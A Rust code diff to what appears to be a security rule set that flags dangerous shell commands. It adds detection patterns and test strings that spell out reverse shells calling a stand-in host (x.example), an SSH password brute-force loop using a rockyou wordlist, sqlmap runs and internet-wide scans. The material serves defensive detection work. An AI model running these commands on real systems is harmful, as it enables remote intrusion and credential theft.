@@ -5,7 +5,8 @@ use super::attackers;
 use crate::domain::Severity;
 use crate::rules::Invocation;
 use crate::rules::matcher::{
-    Command, Found, Instead, Operand, RULE, Rule, Scene, Trigger, When, has_flag, is_shell, runs, runs_shell,
+    Code, Command, Found, Instead, Operand, RULE, Rule, Scene, Trigger, When, has_flag, is_shell, runs,
+    runs_shell,
 };
 use crate::shell::Arg;
 
@@ -93,6 +94,8 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "s6-tcpserver 0.0.0.0 4444 sh",
             "websocketd --port=8080 bash",
             "coproc nc x.example 4444; exec bash <&${COPROC[0]} >&${COPROC[1]}",
+            "coproc bash; nc x.example 443 <&${COPROC[0]} >&${COPROC[1]}",
+            "s() { bash -i 2>&1; }; coproc nc x.example 443; s <&${COPROC[0]} >&${COPROC[1]}",
             "DISPLAY=10.0.0.1:0 xterm",
         ],
         silent: &[
@@ -125,7 +128,27 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
                 operand: Operand::Is(&["0.0.0.0/0", "::/0", "0/0"]),
                 ..run(&["masscan", "zmap", "nmap", "rustscan"])
             }),
-            predicate("break_in_tool", Trigger::programs(attackers::BREAKERS), attackers::breaks_in),
+            When::Code(Code {
+                programs: &[],
+                all: &[
+                    &["paramiko", "ftplib", "pexpect", "telnetlib", "imaplib", "poplib", "smtplib", "pxssh"],
+                    &[
+                        "rockyou",
+                        "wordlist",
+                        "passwords.txt",
+                        "passlist",
+                        "pass.txt",
+                        "pw.txt",
+                        "passwd_list",
+                    ],
+                    &[".connect(", "login("],
+                ],
+            }),
+            predicate(
+                "break_in_tool",
+                Trigger::programs(attackers::BREAKERS).or(Trigger::INTERPRETER).or(Trigger::SHELL),
+                attackers::breaks_in,
+            ),
         ],
         fires: &[
             "masscan 0.0.0.0/0 -p22 --rate 100000",
@@ -135,6 +158,8 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "sqlmap -u https://x.example/?id=1 --batch",
             "sqlmap -u http://localhost:5000/ --proxy http://x.example:8080",
             "sqlmap -r request.txt",
+            "python3 - <<'E'\nimport paramiko\nfor pw in open('rockyou.txt'):\n    paramiko.SSHClient().connect('10.0.0.5', username='root', password=pw.strip())\nE",
+            "python3 sqlmap.py -u https://x.example/?id=1",
         ],
         silent: &[
             "which hydra",
@@ -276,8 +301,16 @@ fn coprocess<'a>(scene: &Scene<'a>) -> Found<'a> {
     }
     let all = scene.invocations();
     let connects = all.iter().any(|inv| runs(inv, lists::NETCATS) || runs(inv, lists::CONNECTIONS));
-    let shell = all.iter().find(|inv| connects && runs_shell(inv) && inv.text.contains("<&"));
-    Found::from(shell.map(|inv| inv.text.as_str()))
+    let tied = |inv: &Invocation| inv.text.contains("<&");
+    let shell = all.iter().find(|inv| connects && runs_shell(inv) && tied(inv));
+    // `coproc bash; nc … <&${COPROC[0]}`, and a shell that stands in a function.
+    let other_way = || {
+        let tied = all.iter().any(tied) || line.contains("<&${");
+        all.iter().find(|inv| {
+            connects && tied && runs_shell(inv) && inv.operands.is_empty() && !has_flag(inv, "-c")
+        })
+    };
+    Found::from(shell.or_else(other_way).map(|inv| inv.text.as_str()))
 }
 
 /// `DISPLAY=host:0 xterm`
